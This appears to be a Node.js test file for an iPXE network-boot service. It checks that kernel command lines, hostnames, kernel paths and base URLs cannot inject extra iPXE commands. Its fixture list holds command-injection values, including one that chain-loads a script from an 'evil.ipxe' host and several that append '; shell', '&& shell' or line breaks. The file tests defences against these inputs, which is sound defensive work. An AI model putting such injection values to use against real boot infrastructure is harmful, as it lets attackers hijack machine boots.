// iPXE scripts are rendered only from values that cannot become iPXE commands: a kernel command
// line with a standalone `;` (or `&&`, `||`, a line break...) is refused where it comes in (the
// service node's config; the control endpoint, see env-profile.test.ts) and, should one get past
// that (a hand-edited file, a record built in code), again when the script is rendered.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  type EnvBoot,
  ipxeTextProblem,
  type NodeRecord,
  serviceNodeConfigSchema,
} from '../../../src/lib/services/config.js';
import { bootScript, chainScript } from '../../../src/lib/services/ipxe.js';
import { loopbackService } from '../../helpers/service-config.js';

const kernel = `envs/${'a'.repeat(64)}/kernel`;
const initrd = `envs/${'b'.repeat(64)}/initrd`;
const node: NodeRecord = {
  mac: '02:00:00:00:00:01',
  ip: '10.0.0.2',
  hostname: 'n1',
  fqdn: 'n1.test',
  profile: 'deploy',
};
const config = serviceNodeConfigSchema.parse(loopbackService({ roles: ['http'], nodes: [node] }));

/** Text iPXE would run as a command of its own, or otherwise read differently. */
const bad: [string, RegExp][] = [
  ['console=ttyS0 ; chain http://10.0.0.9/evil.ipxe', /standalone ;/],
  ['console=ttyS0 && shell', /standalone &&/],
  ['console=ttyS0 || shell', /standalone \|\|/],
  ['console=ttyS0\nshell', /line break/],
  ['console=ttyS0\rshell', /line break/],
  ['console=ttyS0\tx\x1b', /control character/],
  ['root=$root', /contains \$/],
  ['a "b c"', /contains "/],
  ["a 'b c'", /contains '/],
  ['a\\ b', /contains \\/],
  ['quiet #x', /word starting with #/],
];
const good = ['', 'console=ttyS0 root=/dev/vda1', 'a;b x=1;2 ip=::::n1:eth0:dhcp', 'quiet a#b'];

describe('iPXE text', () => {
  for (const [text, why] of bad)
    it(`refuses ${JSON.stringify(text)}`, () => assert.match(ipxeTextProblem(text) ?? 'accepted', why));
  for (const text of good)
    it(`takes ${JSON.stringify(text)}`, () => assert.equal(ipxeTextProblem(text), null));
});

describe('iPXE scripts', () => {
  const env = (cmdline: string): EnvBoot => ({ kernel, initrd, cmdline });

  it('renders the env profile with its command line on the kernel line', () => {
    const script = bootScript(config, { ...node, profile: 'env', envBoot: env('root=/dev/vda1 quiet') });
    assert.match(
      script,
      /^kernel http:\/\/127\.0\.0\.1:0\/files\/envs\/a+\/kernel initrd=initrd root=\/dev\/vda1 quiet$/m,
    );
  });

  for (const [cmdline, why] of bad)
    it(`refuses to render a command line ${JSON.stringify(cmdline)}`, () => {
      assert.throws(
        () => bootScript(config, { ...node, profile: 'env', envBoot: env(cmdline) }),
        (e: Error) => {
          assert.match(e.message, /^node 02:00:00:00:00:01: node\.envBoot\.cmdline /);
          assert.match(e.message, why);
          return true;
        },
      );
      assert.throws(
        () => bootScript({ ...config, boot: { deploy: { ...config.boot.deploy, cmdline } } }, node),
        /: boot\.cmdline .*not put into an iPXE script$/,
      );
    });

  it('refuses any other value that would change the script (a hostname, a kernel path)', () => {
    assert.throws(
      () => bootScript(config, { ...node, hostname: 'n1 ; shell' }),
      /node\.hostname contains a standalone ;/,
    );
    assert.throws(
      () => bootScript(config, { ...node, fqdn: 'n1\nshell' }),
      /node\.fqdn contains a line break/,
    );
    assert.throws(
      () =>
        bootScript({ ...config, boot: { deploy: { ...config.boot.deploy, kernel: 'k || shell' } } }, node),
      /boot\.kernel contains a standalone \|\|/,
    );
    assert.throws(
      () => chainScript({ ...config, ip: '10.0.0.1 ; shell' }),
      /chain script: baseUrl contains a standalone ;/,
    );
  });

  it('refuses such a deploy command line in the service node config', () => {
    for (const [cmdline, why] of bad) {
      const r = serviceNodeConfigSchema.safeParse(
        loopbackService({ roles: ['http'], boot: { deploy: { kernel: 'k', initrd: 'i', cmdline } } }),
      );
      assert.equal(r.success, false, cmdline);
      assert.deepEqual(r.error?.issues[0].path, ['boot', 'deploy', 'cmdline']);
      assert.match(r.error?.issues[0].message ?? '', why);
    }
  });
});
